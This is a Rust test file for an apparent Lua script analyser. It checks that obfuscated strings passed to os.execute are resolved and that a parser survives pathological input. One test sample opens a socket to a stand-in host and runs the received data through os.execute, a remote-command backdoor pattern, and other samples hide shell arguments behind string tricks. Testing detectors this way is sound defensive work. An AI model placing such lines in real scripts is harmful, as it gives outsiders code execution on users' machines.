//! What Lua does.

use model::{Behavior, Budget, Stream};

use crate::world::World;

/// What a text does, one act a line.
fn acts(text: &str) -> Vec<String> {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    super::lower(&mut world, text);
    let shown = |behavior: &Behavior| match behavior {
        Behavior::Connect { host, port, .. } => format!("connect {host}:{port}"),
        Behavior::Listen { port, .. } => format!("listen {port}"),
        Behavior::Evaluate { language, code } => format!("{}: {code}", language.name()),
        Behavior::Execute { program, input, .. } => match input {
            Stream::Connection(connection) => format!("run {program} on #{connection}"),
            _ => format!("run {program}"),
        },
        Behavior::Send { data, .. } => format!("send {data}"),
        Behavior::Fetch { url, .. } => format!("fetch {url}"),
        Behavior::Write { path, .. } => format!("write {path}"),
        other => format!("{other:?}"),
    };
    let acts = world.finish().acts;
    acts.iter().map(|act| shown(&act.behavior)).collect()
}

/// Texts that are hostile to read: nothing may panic or take long.
#[test]
fn hostile_texts_end() {
    for part in [
        "(",
        "{",
        "a[",
        "a(",
        "f{",
        "not ",
        "function() ",
        "load(",
        "if a then ",
        "a..",
        "[[",
        "--[[",
        "\"",
        "a.b:c(",
    ] {
        acts(&part.repeat(20_000));
    }
}

#[test]
fn texts_are_computed() {
    let cases = [
        ("('abc'):reverse()", "cba"),
        ("string.char(97, 98)", "ab"),
        (
            "('6162'):gsub('%x%x', function(h) return string.char(tonumber(h, 16)) end)",
            "ab",
        ),
        ("table.concat({'a', 'b'}, '-')", "a-b"),
        ("('abc'):sub(2, -1)", "bc"),
        ("('a b'):match('%a+')", "a"),
        ("#{1, 2, 3}", "3"),
        ("string.format('%s%d', 'a', 1)", "a1"),
        ("('x'):rep(3)", "xxx"),
        ("({a = 'q'}).a", "q"),
        ("1 ~ 3", "2"),
    ];
    for (expression, expected) in cases {
        let code = format!("os.execute('x ' .. ({expression}))");
        assert_eq!(
            acts(&code).first(),
            Some(&format!("shell: x {expected}")),
            "{expression}"
        );
    }
}

#[test]
fn locals_and_upvalues() {
    let code = "local c = 'id'\nlocal function f() c = c .. 'x' end\nf()\n\
        do local c = 'no' end\nos.execute(c)";
    assert!(acts(code).iter().any(|act| act.starts_with("shell: ")));
    let code = "local s, e = require('socket').connect('a.example', 1)\nos.execute(s:receive())";
    assert_eq!(acts(code), ["connect a.example:1", "shell: {received}"]);
}
